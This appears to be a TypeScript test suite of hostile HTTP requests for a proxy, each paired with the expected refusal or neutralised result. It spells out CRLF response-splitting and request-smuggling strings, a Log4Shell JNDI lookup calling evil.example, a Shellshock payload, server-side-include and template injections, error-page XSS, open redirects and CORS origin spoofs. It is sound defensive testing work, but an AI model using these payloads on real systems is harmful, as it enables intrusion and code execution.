import { defused, denied, HOST, type Hostile, refused, request } from '../case';

/** What an injected line would bring into the answer. */
const CLEAN = { 'X-Injected': null, 'Set-Cookie': null };
const get = (target: string, headers: readonly string[] = []): string => request(`GET ${target} HTTP/1.1`, headers);
/** The app gets the escapes as escapes, and no answer holds what they would decode to. */
const kept = (id: string, target: string): Hostile =>
  defused(
    `split-${id}`,
    `line ends in a target: ${target}`,
    get(target),
    { method: 'GET', target, headers: { 'X-Injected': null } },
    { headers: CLEAN },
  );

const targets: readonly Hostile[] = [
  ['crlf-in-query', '/page?next=%0d%0aX-Injected:%20yes'],
  ['crlf-cookie', '/page?lang=en%0d%0aSet-Cookie:%20session=fixed'],
  ['crlf-two-answers', '/page?x=%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aX-Injected:%20yes'],
  ['crlf-twice-encoded', '/page%250d%250aX-Injected:%20yes'],
  ['unicode-line-ends', '/page%e5%98%8a%e5%98%8dX-Injected:%20yes'],
  ['unicode-separator', '/page%e2%80%a8X-Injected:%20yes'],
  ['next-line', '/page%c2%85X-Injected:%20yes'],
  ['version-in-path', '/page%20HTTP/1.0'],
  ['overlong-crlf', '/page%c0%8d%c0%8aX-Injected:%20yes'],
].map(([id = '', target = '']) => kept(id, target));

/** In a path they are control characters, which are refused whatever they would do. */
const paths: readonly Hostile[] = [
  ['static-redirect', '/static/folder%0d%0aX-Injected:%20yes'],
  ['crlf-in-path', '/page%0d%0aX-Injected:%20yes'],
  ['lf-in-path', '/page%0aX-Injected:%20yes'],
  ['cr-in-path', '/page%0dX-Injected:%20yes'],
  ['crlf-request', '/page%20HTTP/1.1%0d%0aHost:%20evil.example%0d%0a%0d%0aGET%20/smuggled'],
  ['crlf-upper-case', '/page%0D%0AX-Injected:%20yes'],
].map(([id = '', target = '']) => {
  const hostile = refused(`split-${id}`, `line ends in a path: ${target}`, get(target));
  return { ...hostile, answers: [{ status: 400, headers: CLEAN }] };
});

/** Raw line ends in a request line end it, so that the rest is no header. */
const raw: readonly Hostile[] = [
  refused('split-raw-cr-in-path', 'a carriage return in the target', get('/page\rX-Injected:yes')),
  refused('split-raw-cr-in-query', 'a carriage return in the query', get('/page?x=\ry')),
  refused('split-raw-space-in-query', 'a space and a version in the query', get('/page?x= HTTP/1.0')),
];

/** Values that come back in answers of the proxy's own: preflights, redirects to a folder, error pages. */
const reflected: readonly Hostile[] = [
  denied(
    'split-origin',
    'an origin with an escaped line end',
    request('OPTIONS /api/items HTTP/1.1', [
      'Origin: https://portal.example.com%0d%0aX-Injected: yes',
      'Access-Control-Request-Method: POST',
    ]),
    403,
  ),
  denied('split-error-page', 'markup on an error page', get('/.env/<script>alert(1)</script>'), 404),
  denied('split-error-page-escaped', 'markup on an error page', get('/.env/%3cscript%3ealert(1)%3c/script%3e'), 404),
].map((hostile) => ({
  ...hostile,
  answers: hostile.answers.map((answer) => ({ ...answer, headers: CLEAN, without: /script>alert/ })),
}));

/** Headers that would be written to logs or read as settings. */
const values: readonly Hostile[] = [
  ['log4shell', 'User-Agent: ${jndi:ldap://evil.example/a}'],
  ['shellshock', 'User-Agent: () { :; }; echo vulnerable'],
  ['log-forgery', 'User-Agent: a","status":200,"client":"203.0.113.7'],
  ['log-escape', 'User-Agent: a\\","client":"203.0.113.7'],
  ['terminal-escape', 'Referer: https://a.example/%1b[31m'],
  ['template', 'User-Agent: {{7*7}}${7*7}<%= 7*7 %>'],
  ['nginx-variable', 'User-Agent: $request_body$http_cookie'],
  ['server-side-include', 'User-Agent: <!--#exec cmd="id" -->'],
].map(([id = '', line = '']) => {
  const [name = '', value = ''] = line.split(/: (.*)/s);
  return defused(
    `value-${id}`,
    `a value that means something to somebody else: ${JSON.stringify(value)}`,
    get('/page', [line]),
    { method: 'GET', target: '/page', headers: { [name]: value } },
  );
});

/** Redirects that would lead to another site. */
const redirects: readonly Hostile[] = [
  ['doubled-slash', '/static//evil.example/folder'],
  ['encoded', '/static/%2fevil.example/folder'],
].map(([id = '', target = '']) => {
  const hostile = denied(`redirect-${id}`, 'a folder whose redirect would leave the site', get(target), 404);
  return { ...hostile, answers: [{ status: 404, headers: { Location: null } }] };
});

const other = `https://${HOST}.evil.example`;
/** Origins that look like a named one. None is allowed, and the app is told of them as they came. */
const origins: readonly Hostile[] = [
  ['null', 'null'],
  ['other', 'https://evil.example'],
  ['own-suffix', other],
  ['suffix', 'https://portal.example.com.evil.example'],
  ['prefix', 'https://evilportal.example.com'],
  ['subdomain', 'https://x.portal.example.com'],
  ['parent', 'https://example.com'],
  ['http', 'http://portal.example.com'],
  ['port', 'https://portal.example.com:8443'],
  ['point-replaced', 'https://portalxexample.com'],
  ['userinfo', 'https://portal.example.com@evil.example'],
  ['path', 'https://portal.example.com/'],
  ['list', 'https://portal.example.com, https://evil.example'],
  ['list-spaces', 'https://evil.example https://portal.example.com'],
  ['wildcard', '*'],
  ['file', 'file://'],
  ['extension', 'chrome-extension://abcdefghijklmnop'],
  ['backtick', 'https://portal.example.com`.evil.example'],
  ['underscore', 'https://portal.example.com_.evil.example'],
  ['percent', 'https://portal.example.com%60.evil.example'],
  ['localhost', 'http://localhost:3000'],
].map(([id = '', origin = '']) => ({
  ...defused(
    `cors-${id}`,
    `an origin that isn't named: ${origin}`,
    request('GET /api/items HTTP/1.1', [`Origin: ${origin}`]),
    { method: 'GET', target: '/api/items' },
  ),
  answers: [
    { status: 200, headers: { 'Access-Control-Allow-Origin': null, 'Access-Control-Allow-Credentials': null } },
  ],
}));

const preflights: readonly Hostile[] = [
  ['null', 'null'],
  ['other', 'https://evil.example'],
  ['suffix', 'https://portal.example.com.evil.example'],
  ['http', 'http://portal.example.com'],
].map(([id = '', origin = '']) => ({
  ...denied(
    `cors-preflight-${id}`,
    `a preflight of an origin that isn't named: ${origin}`,
    request('OPTIONS /api/items HTTP/1.1', [
      `Origin: ${origin}`,
      'Access-Control-Request-Method: DELETE',
      'Access-Control-Request-Headers: authorization',
    ]),
    403,
  ),
  answers: [
    {
      status: 403,
      headers: {
        'Access-Control-Allow-Origin': null,
        'Access-Control-Allow-Methods': null,
        'Access-Control-Allow-Headers': null,
      },
    },
  ],
}));

export const cases: readonly Hostile[] = [
  ...targets,
  ...paths,
  ...raw,
  ...reflected,
  ...values,
  ...redirects,
  ...origins,
  ...preflights,
];
